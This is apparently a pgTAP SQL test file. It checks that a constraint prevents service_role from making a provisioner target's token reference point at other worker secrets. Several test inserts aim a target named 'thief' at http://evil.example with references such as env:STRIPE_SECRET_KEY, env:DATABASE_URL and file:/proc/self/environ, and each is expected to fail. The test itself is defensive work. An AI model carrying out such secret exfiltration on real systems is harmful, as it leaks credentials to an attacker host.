-- 151_token_ref_names_a_token.sql (151_token_ref_names_a_token.sql): the worker sends
-- what a target's token reference names to that target's URL; service_role, which may
-- write targets, cannot make it name the worker's other secrets.
BEGIN;
\ir _helpers.inc
SELECT plan(8);

INSERT INTO public.provisioner_targets (id, name, url, token_ref, capacity_mb)
VALUES (961, 'host-1', 'http://10.0.0.1:8002', 'env:DOKKU_PROVISIONER_TOKEN', 1000),
       (962, 'cluster-1', 'https://prov-k3s.internal', 'file:/etc/mindroom/cluster-1.token', 1000);
SELECT is((SELECT count(*) FROM public.provisioner_targets WHERE id IN (961, 962)), 2::bigint,
          'a *_TOKEN variable and a *.token file are token references');
SELECT is(pg_temp.cell('service_role', $$INSERT INTO public.provisioner_targets (name, url, token_ref, capacity_mb)
                                        VALUES ('thief', 'http://evil.example', 'env:MINDROOM_SECRETS_KEY', 1)$$),
          'err:23514', 'no target may send the secrets key');
SELECT is(pg_temp.cell('service_role', $$INSERT INTO public.provisioner_targets (name, url, token_ref, capacity_mb)
                                        VALUES ('thief', 'http://evil.example', 'env:STRIPE_SECRET_KEY', 1)$$),
          'err:23514', 'nor the Stripe key');
SELECT is(pg_temp.cell('service_role', $$INSERT INTO public.provisioner_targets (name, url, token_ref, capacity_mb)
                                        VALUES ('thief', 'http://evil.example', 'env:DATABASE_URL', 1)$$),
          'err:23514', 'nor the database URL');
SELECT is(pg_temp.cell('service_role', $$INSERT INTO public.provisioner_targets (name, url, token_ref, capacity_mb)
                                        VALUES ('thief', 'http://evil.example', 'file:/proc/self/environ', 1)$$),
          'err:23514', 'nor the worker''s environment as a file');
SELECT is(pg_temp.cell('service_role', $$UPDATE public.provisioner_targets SET token_ref = 'env:RESEND_API_KEY'
                                         WHERE id = 961$$),
          'err:23514', 'nor can a target''s reference be changed to another secret');
SELECT is(pg_temp.cell('service_role', $$UPDATE public.provisioner_targets SET token_ref = 'file:/etc/mindroom/mindroom.env'
                                         WHERE id = 962$$),
          'err:23514', 'or to the configuration file');
SELECT is(pg_temp.cell('service_role', $$UPDATE public.provisioner_targets SET token_ref = 'env:HOST_1_TOKEN'
                                         WHERE id = 961$$),
          'ok:1', 'another token variable is fine');
SELECT * FROM finish();
ROLLBACK;
